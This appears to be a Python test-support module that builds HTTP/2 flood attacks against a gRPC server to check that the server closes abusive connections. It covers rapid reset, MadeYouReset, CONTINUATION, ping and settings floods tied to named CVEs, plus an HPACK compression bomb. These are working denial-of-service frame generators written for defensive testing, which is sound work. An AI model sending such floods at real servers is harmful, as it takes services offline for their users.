# SPDX-FileCopyrightText: The Tidegate authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks on the connections of a live gRPC server: frames that cost the server more than the client.

A flood is an endless sequence of frames. Its frames are valid, or break a rule of one stream only, so each
alone would be accepted; the server must end the connection because of their number.
"""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import count, islice

from tests.support.http2 import (
    MAX_WINDOW,
    ErrorCode,
    Flag,
    FrameType,
    call_frames,
    call_headers,
    data_frame,
    encode_headers,
    encode_integer,
    frame,
    headers_frame,
    message,
    ping_frame,
    reset_frame,
    settings_frame,
    window_frame,
)

MAX_FRAMES = 50_000
"""Repetitions of a flood; a server that reads all of them has not defended itself."""

_AT_ONCE = 50
"""Repetitions per write."""

CALM = frozenset({ErrorCode.ENHANCE_YOUR_CALM})
"""The error code of a connection with excessive load. From RFC 9113, sections 7 and 10.5."""

Repeat = Callable[[bytes], Iterator[bytes]]
"""From the message of an inference request to the repetitions."""


@dataclass(frozen=True, slots=True)
class Flood:
    """An endless sequence of frames.

    Args:
        repeat: Returns the repetitions.
        codes: The error codes with which the server may end the connection.
    """

    repeat: Repeat
    codes: frozenset[ErrorCode] = CALM

    def contents(self, request: bytes) -> Iterator[bytes]:
        """Yield several repetitions at a time."""
        repetitions = islice(self.repeat(request), MAX_FRAMES)
        while content := b"".join(islice(repetitions, _AT_ONCE)):
            yield content


def streams() -> Iterator[int]:
    """Yield the numbers of a client's streams."""
    return count(1, 2)


def on_each_stream(*frames: Callable[[int], bytes]) -> Repeat:
    """Return the flood of a complete call and these frames after it, on a new stream each."""

    def repeat(request: bytes) -> Iterator[bytes]:
        for stream in streams():
            yield call_frames(stream, "ModelInfer", request) + b"".join(make(stream) for make in frames)

    return repeat


def on_first_stream(begin: bytes, repeated: bytes) -> Repeat:
    """Return the flood of one frame after others on stream 1, which stays open."""

    def repeat(_: bytes) -> Iterator[bytes]:
        yield begin
        while True:
            yield repeated

    return repeat


def begin_streams(*frames: Callable[[int], bytes]) -> Repeat:
    """Return the flood of the headers of calls, without their messages, and these frames after them."""
    block = encode_headers(call_headers("ModelInfer"))

    def repeat(_: bytes) -> Iterator[bytes]:
        for stream in streams():
            yield headers_frame(stream, block) + b"".join(make(stream) for make in frames)

    return repeat


_OPEN = headers_frame(1, encode_headers(call_headers("ModelInfer")))
_BLOCK = encode_headers([("x-filler", "y" * 1000)])
_CLOSED = call_frames(1, "ServerLive", b"") + reset_frame(1)

RESETS: Mapping[str, Flood] = {
    # CVE-2023-44487: each stream starts work, and none counts as open.
    "rapid reset": Flood(on_each_stream(reset_frame)),
    "rapid reset before the message": Flood(begin_streams(reset_frame)),
    # CVE-2025-8671: the client makes the server reset the streams.
    "made you reset by an increment of 0": Flood(
        on_each_stream(lambda stream: window_frame(stream, 0)), CALM | {ErrorCode.PROTOCOL_ERROR}
    ),
    "made you reset by a window above its maximum": Flood(
        on_each_stream(lambda stream: window_frame(stream, MAX_WINDOW)),
        CALM | {ErrorCode.FLOW_CONTROL_ERROR},
    ),
    "made you reset by data after the end": Flood(
        on_each_stream(lambda stream: data_frame(stream, b"x", 0)), CALM | {ErrorCode.STREAM_CLOSED}
    ),
    "made you reset by headers after the end": Flood(
        on_each_stream(lambda stream: headers_frame(stream, _BLOCK)), CALM | {ErrorCode.STREAM_CLOSED}
    ),
    "made you reset by a short PRIORITY frame": Flood(
        on_each_stream(lambda stream: frame(FrameType.PRIORITY, 0, stream, bytes(4))),
        CALM | {ErrorCode.FRAME_SIZE_ERROR},
    ),
}
"""Floods that end their streams early, so that the limit of concurrent streams never applies."""

FRAMES: Mapping[str, Flood] = {
    # CVE-2024-24549 and others: a header block that never ends.
    "continuation": Flood(
        on_first_stream(headers_frame(1, _BLOCK, 0), frame(FrameType.CONTINUATION, 0, 1, _BLOCK)),
        CALM | {ErrorCode.PROTOCOL_ERROR, ErrorCode.COMPRESSION_ERROR},
    ),
    "empty continuation": Flood(
        on_first_stream(headers_frame(1, _BLOCK, 0), frame(FrameType.CONTINUATION, 0, 1)),
        CALM | {ErrorCode.PROTOCOL_ERROR},
    ),
    # CVE-2019-9512, CVE-2019-9515, CVE-2019-9518.
    "ping": Flood(on_first_stream(b"", ping_frame())),
    "settings": Flood(on_first_stream(b"", settings_frame({}))),
    "empty data": Flood(on_first_stream(_OPEN, data_frame(1, b"", 0))),
    "data of padding": Flood(
        on_first_stream(_OPEN, frame(FrameType.DATA, Flag.PADDED, 1, bytes([255]) + bytes(255)))
    ),
    "reset of a closed stream": Flood(on_first_stream(_CLOSED, reset_frame(1))),
    "headers without an end": Flood(begin_streams()),
}
"""Floods of frames that carry nothing."""


def compression_bomb() -> bytes:
    """Return a call whose 16 KiB of header fields decode to 60 MiB.

    A field of 4,000 bytes enters the dynamic table and is then named by one byte each time. From RFC 7541,
    sections 6.1 and 6.2.1.
    """
    field = b"\x40" + encode_integer(1, 7) + b"x" + encode_integer(4000, 7) + b"y" * 4000
    block = encode_headers(call_headers("ModelInfer")) + field
    return headers_frame(1, block + encode_integer(62, 7, 0x80) * (16_384 - len(block)))


def long_headers(size: int) -> Iterator[bytes]:
    """Yield the frames of a call with so many bytes in header fields of 1,000 bytes."""
    block = encode_headers(call_headers("ServerLive"))
    block += b"".join(encode_headers([(f"x-{number}", "y" * 1000)]) for number in range(size // 1000))
    pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    for index, piece in enumerate(pieces):
        kind = FrameType.CONTINUATION if index else FrameType.HEADERS
        yield frame(kind, Flag.END_HEADERS if index == len(pieces) - 1 else 0, 1, piece)
    yield data_frame(1, message(b""))
